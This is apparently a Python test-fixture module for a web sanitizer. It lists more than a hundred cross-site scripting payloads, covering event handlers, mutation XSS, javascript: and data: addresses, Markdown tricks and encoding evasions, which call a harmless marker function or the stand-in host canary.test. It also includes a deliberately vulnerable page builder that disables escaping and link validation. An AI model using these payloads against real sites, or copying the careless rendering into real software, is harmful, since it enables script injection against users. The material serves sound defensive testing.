"""Texts that would run a script or call another host, each written for this project, and where they would.

Each is one class of attack. `RUN` stands for a call of the function `ran` with the number of the
class, `HOST` for an address of another host that ends in the number. `where` names the careless
page of `carelessly` in which the class is alive; a payload that runs nowhere would test nothing.
"""

from __future__ import annotations

import html
import re
from dataclasses import dataclass

from jinja2 import Environment
from markdown_it import MarkdownIt

CANARY = "canary.test"


@dataclass(frozen=True, kw_only=True)
class Payload:
    """One class of attack: its number, its name, the careless page it runs in, and its text."""

    number: int
    name: str
    where: str
    text: str


BODY = {
    "script element": "<script>RUN</script>",
    "script in mixed case": "<ScRiPt >RUN</sCrIpT >",
    "script with a slash": "<script/x>RUN</script>",
    "script from elsewhere": '<script src="HOST"></script>',
    "script module from elsewhere": '<script type="module" src="HOST"></script>',
    "broken image": "<img src=x onerror=RUN>",
    "image without spaces": '<img/src="x"/onerror=RUN>',
    "image with line breaks": "<img\nsrc=x\nonerror\n=\nRUN>",
    "image with tabs": "<img\tsrc=x\tonerror=RUN>",
    "image with a form feed": "<img\x0csrc=x\x0conerror=RUN>",
    "handler in entities": "<img src=x onerror=&#114;an&#40;NUMBER&#41;>",
    "handler in hexadecimal entities": "<img src=x onerror=&#x72;an&lpar;NUMBER&rpar;>",
    "handler with escapes": "<img src=x onerror=\\u0072an(NUMBER)>",
    "image from elsewhere": '<img src="HOST">',
    "image with srcset": '<img srcset="HOST 1x, HOST 2x">',
    "picture with a source": '<picture><source srcset="HOST"><img></picture>',
    "lower source": '<img lowsrc="x" dynsrc="x" src="//canary.test/NUMBER">',
    "body handler": "<body onload=RUN>",
    "page shown": "<body onpageshow=RUN>",
    "focus at once": "<input autofocus onfocus=RUN>",
    "focus of any element": "<b id=x tabindex=1 autofocus onfocus=RUN>b</b>",
    "details opened": "<details open ontoggle=RUN><summary>s</summary></details>",
    "audio that fails": "<audio src=x onerror=RUN></audio>",
    "video source that fails": "<video><source src=x onerror=RUN></video>",
    "video poster": '<video poster="HOST"></video>',
    "animation begins": "<style>@keyframes k{}</style><i style='animation:k 1s' onanimationstart=RUN></i>",
    "popover": "<button popovertarget=p>b</button><b popover id=p onbeforetoggle=RUN>p</b>",
    "SVG handler": "<svg onload=RUN>",
    "SVG script": "<svg><script>RUN</script></svg>",
    "SVG script in entities": "<svg><script>&#114;an&#40;NUMBER&#41;</script></svg>",
    "SVG script by href": '<svg><script href="HOST"/></svg>',
    "SVG animation": "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "SVG foreign object": "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "SVG image": '<svg><image href="HOST"/></svg>',
    "SVG use": "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg><img src=x onerror=RUN>",
    "MathML": "<math><mtext><img src=x onerror=RUN></mtext></math>",
    "MathML and a comment": "<math><mi><!--</mi><img src=x onerror=RUN>--></math><img src=x onerror=RUN>",
    "mutation by a style in a paragraph": '<svg></p><style><a title="</style><img src=x onerror=RUN>">',
    "HTML within MathML": (
        '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>'
    ),
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "mutation by a table": "<table><td><svg><desc></table><img src=x onerror=RUN>",
    "comment ended early": "<!--><img src=x onerror=RUN>-->",
    "processing instruction": "<?xml ><img src=x onerror=RUN>?>",
    "CDATA outside XML": "<![CDATA[><img src=x onerror=RUN>]]>",
    "template with a shadow": '<p><template shadowrootmode="open"><img src=x onerror=RUN></template></p>',
    "frame": '<iframe src="HOST"></iframe>',
    "frame with a document": '<iframe srcdoc="&lt;script&gt;parent.RUN&lt;/script&gt;"></iframe>',
    "frame with a script address": '<iframe src="javascript:parent.RUN"></iframe>',
    "frame of data": '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
    "object": '<object data="HOST"></object>',
    "object of data": '<object data="data:text/html,<script>RUN</script>"></object>',
    "embedded": '<embed src="HOST">',
    "style from elsewhere": '<link rel="stylesheet" href="HOST">',
    "style import": '<style>@import "HOST";</style>',
    "style of an element": "<i style=\"background:url('HOST')\">i</i>",
    "style escape": "<i style='background:\\75\\72\\6c(HOST)'>i</i>",
    "font from elsewhere": "<style>@font-face{font-family:f;src:url(HOST)}p{font-family:f}</style><p>p",
    "preload": '<link rel="preload" as="image" href="HOST">',
    "icon": '<link rel="prefetch" href="HOST"><img src="HOST">',
    "refresh": '<meta http-equiv="refresh" content="0;url=HOST">',
    "base": '<base href="http://canary.test/"><img src="NUMBER">',
    "table background": '<table background="HOST"><td>t</table>',
    "form sent to elsewhere": '<form action="HOST"><button id=press>b</button></form>',
    "form of a script": '<form><button id=press formaction="javascript:RUN">b</button></form>',
    "link to a script": '<a id=press href="javascript:RUN">a</a>',
    "link to a script in entities": '<a id=press href="&#106;ava&Tab;script&colon;RUN">a</a>',
    "link to a script after control characters": '<a id=press href="\x01\x02 javascript:RUN">a</a>',
    "link with a ping": '<a id=press href="#" onclick="RUN" ping="HOST">a</a>',
    "area": '<map name=m><area id=press shape=default href="javascript:RUN"></map>',
    "SVG link": '<svg><a id=press xlink:href="javascript:RUN"><text y=9>a</text></a></svg>',
    "null bytes": "<img src=x one\x00rror=x onerror=RUN>",
    "replacement characters": "\ufffd\ufeff<img src=x onerror=RUN>",
    "bidirectional marks": "\u202e\u2066<img src=x onerror=RUN>\u2069\u202c",
    "zero width": "\u200b<\u200bimg><img src=x onerror=RUN>",
    "marks of a search": "\x02<img src=x onerror=RUN>\x03",
    "entity without a semicolon": "&ltimg&gt<img src=x onerror=RUN>",
    "ends of raw text": "</title></textarea></style></script></noscript><img src=x onerror=RUN>",
}
OTHERS = {
    "double quotes": ("attribute", '" autofocus onfocus="RUN'),
    "double quotes and an element": ("attribute", '"><img src=x onerror=RUN>'),
    "single quotes": ("attribute in single quotes", "' autofocus onfocus='RUN"),
    "no quotes": ("attribute without quotes", "x autofocus onfocus=RUN"),
    "address of a script": ("address", "javascript:RUN"),
    "address in mixed case": ("address", "JaVaScRiPt:RUN"),
    "address with a tab": ("address", "java\tscript:RUN"),
    "address with a line break": ("address", "java\nscript:RUN//"),
    "address after a space": ("address", "  javascript:RUN"),
    "address with a comment": ("address", "javascript://canary.test/%0aRUN"),
    "address of data": ("frame address", "data:text/html,<script>RUN</script>"),
    "address of data in base64": ("frame address", "data:text/html;base64,BASE64"),
    "address without scheme": ("image address", "//canary.test/NUMBER"),
    "address with backslashes": ("image address", "\\\\canary.test/NUMBER"),
    "address that ends the attribute": ("address", "http://x.test/'\"><img src=x onerror=RUN>"),
    "end of linked data": ("linked data", "</script><script>RUN</script>"),
    "end of linked data in mixed case": ("linked data", "</ScRiPt ><svg onload=RUN>"),
    "end of linked data with a slash": ("linked data", "</script/x><img src=x onerror=RUN>"),
    "script in a filtered script": ("filtered", "<scr<script>ipt>RUN</scr</script>ipt>"),
    "double quotes never closed": ("attribute", '"><img src=x onerror="RUN" alt="'),
    "end of a script's string": ("script string", '";RUN;"'),
    "template expression": ("template", "{{ '<img src=x onerror=RUN>' }}"),
    "template statement": ("template", "{% if 1 %}<img src=x onerror=RUN>{% endif %}"),
    "Markdown link": ("markdown", "[m](javascript:RUN)"),
    "Markdown link in entities": ("markdown", "[m](&#106;avascript&colon;RUN)"),
    "Markdown link in angle brackets": ("markdown", "[m](<javascript:RUN>)"),
    "Markdown link with a title": ("markdown", '[m](javascript:RUN "t\' onclick=x")'),
    "Markdown reference": ("markdown", "[m][r]\n\n[r]: javascript:RUN"),
    "Markdown reference by itself": ("markdown", "[r]\n\n[r]: JAVASCRIPT:RUN 't'"),
    "Markdown autolink": ("markdown", "<javascript:RUN>"),
    "Markdown link to data": ("markdown", "[m](data:text/html,RUN) <a href=javascript:RUN>m</a>"),
    "Markdown image": ("markdown", "![m](HOST)"),
    "Markdown image with a handler": ("markdown", '![m"onerror="RUN](x) <img src=x onerror=RUN>'),
    "Markdown image as a link": ("markdown", "[![m](HOST)](javascript:RUN)"),
    "Markdown image of data": ("markdown", "![m](data:image/svg+xml,RUN) ![n](HOST)"),
    "Markdown with raw HTML": ("markdown", "*m* <img src=x onerror=RUN> *m*"),
    "Markdown with a block of HTML": ("markdown", "m\n\n<div>\n<img src=x onerror=RUN>\n</div>\n\nm"),
    "Markdown code that ends early": ("markdown", "```\n</code></pre>\n```\n<img src=x onerror=RUN>"),
    "Markdown fence with a language": ("markdown", '~~~ "><img src=x>\nm\n~~~\n<img src=x onerror=RUN>'),
    "Markdown table": ("markdown", "| a |\n| --- |\n| <img src=x onerror=RUN> |"),
    "Markdown heading": ("markdown", "# m <img src=x onerror=RUN>"),
    "entities of entities": ("twice decoded", "&amp;lt;img src=x onerror=RUN&amp;gt;"),
    "escaped once": ("once decoded", "&lt;img src=x onerror=RUN&gt;"),
    "escaped by numbers": ("once decoded", "&#60;img src=x onerror=RUN&#62;"),
    "date": ("attribute", '1969-07-20"><img src=x onerror=RUN>'),
    "formula": ("body", '=HYPERLINK("HOST","<img src=x onerror=RUN>")'),
}


def _filled(text: str, number: int) -> str:
    import base64  # noqa: PLC0415

    hidden = base64.b64encode(f"<script>ran({number})</script>".encode()).decode()
    text = text.replace("RUN", f"ran({number})").replace("HOST", f"http://{CANARY}/{number}")
    return text.replace("NUMBER", str(number)).replace("BASE64", hidden)


PAYLOADS = tuple(
    Payload(number=number, name=name, where=where, text=_filled(text, number))
    for number, (name, where, text) in enumerate(
        [
            *((name, "body", text) for name, text in BODY.items()),
            *((name, where, text) for name, (where, text) in OTHERS.items()),
        ],
        start=1,
    )
)


def carelessly(payload: Payload) -> str:
    """Return a page that shows a payload as a careless site would."""
    text = payload.text
    markdown = MarkdownIt("commonmark", {"html": True}).enable("table")
    markdown.validateLink = lambda _url: True  # type: ignore[method-assign]
    bodies = {
        "body": lambda: text,
        "attribute": lambda: f'<input value="{text}">',
        "attribute in single quotes": lambda: f"<input value='{text}'>",
        "attribute without quotes": lambda: f"<input value={text}>",
        "address": lambda: f'<a id="press" href="{text}">a</a>',
        "frame address": lambda: f'<iframe src="{text}"></iframe>',
        "image address": lambda: f'<img src="{text}">',
        "linked data": lambda: f'<script type="application/ld+json">{{"a": "{text}"}}</script>',
        "script string": lambda: f'<script>var a = "{text}";</script>',
        "template": lambda: Environment().from_string(text).render(),
        "markdown": lambda: markdown.render(text),
        "filtered": lambda: re.sub("</?script>", "", text),
        "once decoded": lambda: html.unescape(text),
        "twice decoded": lambda: html.unescape(html.unescape(text)),
    }
    return f"<!doctype html><meta charset=utf-8>{bodies[payload.where]()}"
